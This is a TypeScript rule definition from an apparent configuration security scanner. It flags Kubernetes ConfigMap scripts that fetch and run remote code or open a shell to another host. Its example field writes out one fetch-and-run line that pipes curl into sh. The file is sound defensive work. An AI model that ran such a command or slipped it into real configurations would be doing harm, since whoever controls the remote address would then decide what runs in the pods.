import { isBranch, ownKey, readable } from "../mask/marks";
import { opensShell, runsDownload } from "../model/downloads";
import { piecesOf } from "../model/pieces";
import { pick } from "../model/tree";
import { objectRule } from "../rule/define";

/** A script in a ConfigMap runs what it downloads. */
export const configMapDownloads = objectRule({
  id: "config-map-downloads",
  severity: "medium",
  category: "security",
  title: "A script in a ConfigMap runs what it downloads",
  why: "Pods run it as if it were part of their image; whoever answers at the address decides on what it does.",
  fix: "Build what is needed into the image.",
  ids: ["NSA-pods-image-scanning", "CWE-494"],
  example: 'data = { "run.sh" = "curl https://example.com/x | sh" }',
  kinds: ["ConfigMap", "ConfigMapV1Data"],
  readsMarks: true,
  check: (object) => {
    const data = pick(object.body, "data");
    if (!isBranch(data)) return undefined;
    const texts = Object.keys(data).map((key) => [key, piecesOf(readable(ownKey(data, key)) ?? "")] as const);
    const opening = texts.filter(([, pieces]) => pieces.some(opensShell)).map(([key]) => key);
    if (opening.length > 0)
      return { message: `${opening.join(", ")} opens a shell to somebody at another address`, severity: "high" };
    const found = texts.filter(([, pieces]) => pieces.some(runsDownload)).map(([key]) => key);
    return found.length === 0 ? undefined : `${found.join(", ")} fetches a program and runs it`;
  },
});
